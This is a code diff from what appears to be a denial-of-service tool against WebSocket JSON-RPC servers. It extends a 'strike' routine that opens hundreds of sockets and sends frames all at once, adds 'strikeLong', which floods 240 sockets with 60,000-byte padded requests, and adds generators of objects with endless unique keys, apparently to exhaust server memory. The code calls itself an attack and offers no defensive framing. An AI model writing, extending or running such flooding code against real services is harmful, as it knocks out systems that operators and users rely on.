@@ -121,18 +121,50 @@ export async function gather(target: Target, count: number): Promise<readonly We
   return sockets
 }
 
+/** Resolves after this time, or when the attack is over. */
+export async function rest({ isOver }: Target, ms: number) {
+  for (let passed = 0; passed < ms && !isOver(); passed += 100) await setTimeout(100)
+}
+
 /** Opens hundreds of sockets with a key each, and sends the frames of all at the same moment. Repeats until the attack is over. */
-export async function strike(target: Target, frames: () => readonly string[]) {
+export async function strike(
+  target: Target,
+  frames: () => readonly string[],
+  { count = 600, restMs = 2_000 }: { count?: number; restMs?: number } = {},
+) {
   while (!target.isOver()) {
-    const sockets = await gather(target, 600)
+    const sockets = await gather(target, count)
     const all = sockets.map(frames)
     for (const [index, socket] of sockets.entries())
       for (const frame of all[index] ?? []) if (socket.readyState === WebSocket.OPEN) socket.send(frame)
     target.seen.sent += all.flat().length
-    await setTimeout(2_000)
+    await rest(target, restMs)
     for (const socket of sockets) socket.terminate()
   }
 }
+
+/**
+ * 240 sockets send a frame of 60,000 bytes each at the same moment, as often as the bytes of an address allow.
+ *
+ * @param paramsOf - Returns the params of the next frame, as JSON.
+ */
+export function strikeLong(target: Target, paramsOf: () => string): Promise<void> {
+  const frame = () => `{"id":1,"jsonrpc":"2.0","method":"x","params":${paramsOf()}}`.padEnd(60_000)
+  return strike(target, () => [frame()], { count: 240, restMs: 15_000 })
+}
+
+let lastKey = 0
+/** A key that no other object has. */
+function newKey(): string {
+  lastKey += 1
+  return lastKey.toString(36).padStart(5, 'x')
+}
+
+/** A list of objects with one new key each, as JSON. */
+export const shapes = (count: number) => `[${Array.from({ length: count }, () => `{"${newKey()}":0}`)}]`
+
+/** An object with only new keys, as JSON. */
+export const wide = (count: number) => `{${Array.from({ length: count }, () => `"${newKey()}":0`)}}`
 
 export const anyTopic = () => randomBytes(32).toString('hex')
 
